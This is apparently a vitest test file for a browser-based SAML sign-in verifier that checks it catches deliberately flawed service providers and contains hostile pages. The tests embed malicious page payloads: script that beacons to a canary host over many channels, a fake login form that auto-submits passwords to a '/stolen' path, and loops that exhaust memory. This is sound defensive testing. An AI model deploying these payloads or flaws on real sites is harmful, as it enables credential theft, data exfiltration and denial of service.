import { createServer, type Server } from "node:http";
import type { AddressInfo } from "node:net";
import { afterAll, afterEach, beforeAll, describe, expect, it } from "vitest";
import { findChromium } from "../src/platform/browser/index.ts";
import type { Report, VerifyInput } from "../src/stages/verification/index.ts";
import { homeBench, type HomeBench } from "../src/stages/verification/testing.ts";
import type { Flaw } from "./targets/saml-sp/flaws.ts";
import { targetManifest } from "./targets/saml-sp/manifest.ts";
import { startScriptSp, type ScriptSpOptions } from "./targets/script-apps.ts";

/** What a browser may take of memory where it is to be too much: an idle one takes half of it. */
const SMALL = 800_000_000;

let bench: HomeBench;
/** Nobody's host: what comes here was not allowed. */
let canary: Server;
const hits: string[] = [];
let elsewhere = "";
beforeAll(async () => {
  bench = await homeBench();
  canary = createServer((request, response) => { hits.push(`${request.method} ${request.url}`); response.end(); }).listen(0, "127.0.0.1");
  canary.on("upgrade", (request, socket) => { hits.push(`upgrade ${request.url}`); socket.destroy(); });
  await new Promise((listening) => canary.once("listening", listening));
  elsewhere = `127.0.0.1:${(canary.address() as AddressInfo).port}`;
});
afterAll(async () => {
  canary.closeAllConnections();
  canary.close();
  await bench.close();
});
afterEach(() => void hits.splice(0));

async function ask(options: Partial<ScriptSpOptions>, only: readonly string[], more: Partial<VerifyInput> = {}, selector = false): Promise<Report> {
  const idp = { entityId: bench.at.samlEntityId, ssoUrl: bench.at.samlSsoUrl, certificate: bench.identity.saml.certificate };
  const sp = await startScriptSp({ idp, people: ["own@acme.test", "victim@acme.test"], ...options });
  try {
    const manifest = targetManifest(sp.url);
    if (selector) Object.assign(manifest.test as object, { whoAmI: { url: "{{base_url}}/t/{{tenant}}/who", selector: ".me" } });
    return await bench.run(manifest, { only, ...more });
  } finally {
    await sp.close();
  }
}
const seen = (report: Report) => report.checks.map((c) => `${c.id} ${c.outcome}: ${c.observation}`);

it("without a browser, could not tell about an app whose sign-in needs script, and says why", async () => {
  const report = await ask({}, ["SAML-F1", "SP-38"], { browser: "/nowhere/chromium" });
  expect(report.checks.map((c) => [c.id, c.outcome])).toEqual([["SAML-F1", "could_not_tell"], ["SP-38", "could_not_tell"]]);
  for (const check of report.checks) expect(check.observation).toMatch(/needs script to go on, and no browser is installed here/);
});

describe.runIf(findChromium())("with Chromium", { timeout: 120_000 }, () => {
  it("signs in where the pages need script, from the tile and from the app, and reads who it is from a page written by script", async () => {
    const report = await ask({ whoAmIPage: true }, ["SAML-F1", "SAML-F2"], {}, true);
    expect(seen(report)).toEqual([expect.stringMatching(/^SAML-F1 held: .*own@acme\.test/), expect.stringMatching(/^SAML-F2 held: .*own@acme\.test/)]);
    // what the script asked for is in the record like everything else
    expect(report.exchanges.some((e) => e.request.method === "POST" && e.request.url.endsWith("/saml/api/acs"))).toBe(true);
  });

  it("holds in attacks on a sound app", async () => {
    const ids = ["SP-01", "SP-05", "SP-34", "SP-38", "SP-42", "SP-52"];
    expect(seen(await ask({}, ids))).toEqual(ids.map((id) => expect.stringMatching(new RegExp(`^${id} held`))));
  });

  it.each<[string, Flaw]>([["SP-01", "takes-unsigned"], ["SP-05", "skips-signature-value"], ["SP-34", "endless"], ["SP-38", "any-audience"], ["SP-42", "any-recipient"], ["SP-52", "replays"]])(
    "catches through it what it is there for: %s, %s", async (id, flaw) => {
      expect(seen(await ask({ flaws: [flaw] }, [id]))).toEqual([expect.stringMatching(new RegExp(`^${id} violated`))]);
    });

  it("gives each person a browser of their own: nothing of one is there for the next", async () => {
    const mischief = `<script>if (localStorage.getItem("left") || document.cookie.includes("left=")) fetch("http://${elsewhere}/remembered"), document.title = "remembered"; localStorage.setItem("left", "1"); document.cookie = "left=1; path=/";</script>`;
    const report = await ask({ mischief }, ["SAML-F1", "SP-38"]);
    expect(report.exchanges.filter((e) => e.request.url.includes("/remembered"))).toEqual([]);
    const cookies = report.exchanges.filter((e) => e.request.url.endsWith("/saml/acs")).map((e) => e.request.headers["cookie"] ?? "");
    expect(cookies.length).toBeGreaterThan(2);
    expect(cookies.filter((c) => c.includes("left="))).toEqual([]);
    expect(seen(report)).toEqual([expect.stringMatching(/^SAML-F1 held/), expect.stringMatching(/^SP-38 held/)]);
  });
});

describe.runIf(findChromium())("a page that is up to something", { timeout: 120_000 }, () => {
  /** Only the target itself is proven, by its file. */
  const strictly = (mischief: string, more: Partial<VerifyInput> = {}) => ask({ mischief, proof: bench.proofLine }, ["SAML-F1"], { loopbackIsOurs: false, ...more });

  it("reaches nobody but its own host, by whatever a browser knows (BR-01, BR-02, BR-03), and not this machine by another name (BR-04)", async () => {
    const localhost = elsewhere.replace("127.0.0.1", "localhost");
    const report = await strictly(`
      <iframe src="http://${elsewhere}/iframe"></iframe><img src="http://${elsewhere}/img"><link rel="stylesheet" href="http://${elsewhere}/css"><link rel="preconnect" href="http://${elsewhere}/">
      <link rel="dns-prefetch" href="http://${elsewhere}/"><script src="http://${elsewhere}/script"></script><video src="http://${elsewhere}/video"></video><object data="http://${elsewhere}/object"></object>
      <style>@font-face { font-family: f; src: url(http://${elsewhere}/font) } body { font-family: f; background: url(http://${localhost}/background) }</style>
      <form id="f" method="post" action="http://${elsewhere}/form" target="pop"></form><iframe srcdoc="<script>fetch('http://${elsewhere}/srcdoc')</script>"></iframe>
      <script>
        const tries = [() => fetch("http://${elsewhere}/fetch", { mode: "no-cors" }), () => fetch("http://${localhost}/localhost"), () => navigator.sendBeacon("http://${elsewhere}/beacon"),
          () => new WebSocket("ws://${elsewhere}/socket"), () => new EventSource("http://${elsewhere}/events"), () => window.open("http://${elsewhere}/popup"), () => document.getElementById("f")["sub" + "mit"](),
          () => new Worker(URL.createObjectURL(new Blob(["fetch('http://${elsewhere}/worker'); new WebSocket('ws://${elsewhere}/worker-socket')"]))),
          () => new SharedWorker(URL.createObjectURL(new Blob(["fetch('http://${elsewhere}/shared')"]))), () => navigator.serviceWorker.register("/worker.js"),
          () => { const x = new XMLHttpRequest(); x.open("POST", "http://${elsewhere}/xhr"); x.send("x"); },
          () => { const p = new RTCPeerConnection({ iceServers: [{ urls: "stun:${elsewhere}" }] }); p.createDataChannel("x"); p.createOffer().then((o) => p.setLocalDescription(o)); }];
        for (const one of tries) try { Promise.resolve(one()).catch(() => {}); } catch {}
      </script>`);
    expect(hits).toEqual([]);
    expect(seen(report)).toEqual([expect.stringMatching(/^SAML-F1 held/)]); // and the sign-in beside all that still works
    expect(report.proven?.map((p) => p.by)).toEqual(["file"]);
  });

  it("that leads the sign-in to another host ends the visit there: nothing is sent, nothing typed (BR-11)", async () => {
    const report = await strictly(`<script>location.assign("http://${elsewhere}/sign-in")</script>`);
    expect(hits.filter((hit) => hit !== "GET /.well-known/entente-verification")).toEqual([]);
    expect(seen(report)).toEqual([expect.stringMatching(/^SAML-F1 violated: .*led to 127\.0\.0\.1:\d+, a host that is not proven/)]);
  });

  it("that looks like ours and asks for a password is given none (BR-10)", async () => {
    const report = await strictly(`<h1>Entente</h1><form action="/t/entente-test/stolen" method="post"><input name="user" autocomplete="username"><input name="password" type="password" autofocus></form>
      <script>fetch = () => new Promise(() => {}); setInterval(() => { if (document.forms[0].password.value || document.forms[0].user.value) document.forms[0].submit(); }, 20);</script>`);
    expect(report.exchanges.some((e) => e.request.url.includes("/stolen"))).toBe(false);
    expect(report.checks[0]?.outcome).toBe("violated");
  });

  /** The app's own script asks for nothing any more, so that nobody is ever signed in by it. */
  const MUTE = "const ask = fetch; fetch = () => new Promise(() => {});";
  it.each([
    ["never ends its loop", "<script>while (true);</script>", {}, /because it did not answer for 5 s/],
    ["asks again and again", `<script>${MUTE} setInterval(() => ask('/t/entente-test/whoami'), 100);</script>`, {}, /because the page was not done after 20 s/],
    ["fills the memory", `<script>const kept = []; for (;;) { const at = performance.now(); kept.push(new Uint8Array(10_000_000).fill(1)); while (performance.now() - at < 10); }</script>`, { browserBytes: SMALL }, /because its pages took more than 800 MB of memory/],
    ["says alert for ever", "<script>for (;;) alert('hello');</script>", {}, /because (it did not answer for 5 s|the page was not done after 20 s)/],
  ] as [string, string, Partial<VerifyInput>, RegExp][])("that %s is given up and says why: that is no news of the app, and another run beside it ends as it should (BR-08)", async (_name, mischief, more, why) => {
    const started = performance.now();
    const beside = ask({}, ["SAML-F1"]);
    const report = await strictly(mischief, more);
    expect(seen(report)).toEqual([expect.stringMatching(/^SAML-F1 could_not_tell: /)]);
    expect(report.checks[0]?.observation).toMatch(why);
    expect(performance.now() - started).toBeLessThan(90_000);
    expect(seen(await beside)).toEqual([expect.stringMatching(/^SAML-F1 held/)]);
  });

  it("is not mistaken for a sound one: with as little memory as killed that one, a sound app's sign-in holds", async () => {
    expect(seen(await ask({}, ["SAML-F1", "SAML-F2"], { browserBytes: SMALL }))).toEqual([expect.stringMatching(/^SAML-F1 held/), expect.stringMatching(/^SAML-F2 held/)]);
  });

  it("that is never done, but signs people in, is sound: dashboards ask again and again", async () => {
    expect(seen(await strictly("<script>setInterval(() => fetch('/t/entente-test/whoami'), 100);</script>"))).toEqual([expect.stringMatching(/^SAML-F1 held/)]);
  });

  it("is no violation where the sign-in begins at it, either", async () => {
    const begins = await ask({ mischief: "<script>while (true);</script>" }, ["SAML-F2"]);
    expect(seen(begins)).toEqual([expect.stringMatching(/^SAML-F2 could_not_tell: .*did not answer for 5 s/)]);
    const without = await ask({}, ["SAML-F2"], { browser: "/nowhere/chromium" });
    expect(seen(without)).toEqual([expect.stringMatching(/^SAML-F2 could_not_tell: .*no browser is installed/)]);
  });
});
